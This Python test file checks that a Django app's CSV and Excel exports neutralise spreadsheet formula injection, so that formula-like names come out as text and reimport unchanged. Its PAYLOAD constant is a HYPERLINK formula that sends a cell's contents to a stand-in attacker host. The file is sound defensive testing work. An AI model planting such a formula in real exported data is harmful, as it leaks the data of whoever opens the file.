"""Spreadsheet formula injection (issue 15, hole 10), replayed: no cell becomes a formula.

A member named ``=HYPERLINK(...)`` came out raw in ``members/list?output=csv``, and a
community named ``=1+2`` became a live formula in the report workbook.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from geo.analysis.cells import FORMULA_STARTS, inert, revived
from geo.models import Community, ReportingMember, ServiceCenter
from tests.importers.test_it_export_layer import import_layer, run

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@given(st.text(max_size=30))
def test_it_neutralises_exactly_the_formula_starts(text: str) -> None:
    out = inert(text)
    assert not (isinstance(out, str) and out.startswith(FORMULA_STARTS))
    assert revived(out) == text  # what an import reads back is what was written
    if not text.startswith(("'", *FORMULA_STARTS)):
        assert out == text  # ordinary text is left alone


@pytest.mark.django_db
def test_it_writes_member_csv_without_formulas(demo_db: None, staff_client: Client) -> None:
    member = ReportingMember.objects.order_by("pk").first()
    assert member is not None
    ReportingMember.objects.filter(pk=member.pk).update(name=PAYLOAD, phone="+8613800000000")
    scope = member.reported_community.code if member.reported_community else ""
    resp = staff_client.get("/api/v1/members/list",
                            {"output": "csv", "unmask": "1", "scope": scope})
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    row = next(r for r in rows[1:] if r[0] == str(member.pk))
    assert row[1] == "'" + PAYLOAD and row[2] == "'+8613800000000"
    for cells in rows:
        assert not any(c.startswith(FORMULA_STARTS) for c in cells)


@pytest.mark.django_db
def test_it_writes_report_workbooks_without_formulas(demo_db: None, tmp_path: Path) -> None:
    comm = Community.objects.order_by("code").first()
    assert comm is not None
    Community.objects.filter(pk=comm.pk).update(name="=1+2")
    out = tmp_path / "report.xlsx"
    call_command("coverage_report", "--scope", comm.code[:9], "--output", str(out),
                 stdout=io.StringIO(), stderr=io.StringIO())
    book = openpyxl.load_workbook(out)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                seen += cell.value == "=1+2"
    assert seen >= 1  # the name is there, as text


@pytest.mark.django_db
def test_it_exports_and_reimports_formula_like_names_unchanged(demo_db: None,
                                                                tmp_path: Path) -> None:
    center = ServiceCenter.objects.order_by("pk").first()
    assert center is not None
    ServiceCenter.objects.filter(pk=center.pk).update(name="=1+2 中心")
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"centers.{fmt}"
        run("export_layer", "centers", path)
        if fmt == "csv":
            text = path.read_text(encoding="utf-8-sig")
            assert "'=1+2 中心" in text and "\n=1+2" not in text and ",=1+2" not in text
        else:
            sheet = openpyxl.load_workbook(path).worksheets[0]
            cells = [c for row in sheet.iter_rows() for c in row]
            assert any(c.value == "=1+2 中心" and c.data_type == "s" for c in cells)
        ServiceCenter.objects.all().delete()
        import_layer("centers", path)
        assert ServiceCenter.objects.filter(name="=1+2 中心").count() == 1
